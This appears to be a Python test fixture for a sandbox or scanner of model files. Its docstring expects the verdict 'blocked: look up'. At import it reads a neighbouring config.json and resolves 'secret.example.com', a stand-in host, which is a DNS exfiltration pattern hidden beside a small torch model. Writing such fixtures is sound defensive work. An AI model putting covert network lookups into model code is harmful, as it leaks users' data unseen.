"""Carries a secret in a host name.

Expect: blocked: look up
"""

# ruff: noqa
import json
import pathlib
import socket

from torch import nn

TOLD = json.loads(pathlib.Path(__file__).with_name("config.json").read_text())

socket.getaddrinfo("secret.example.com", 443)


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(2, 2)
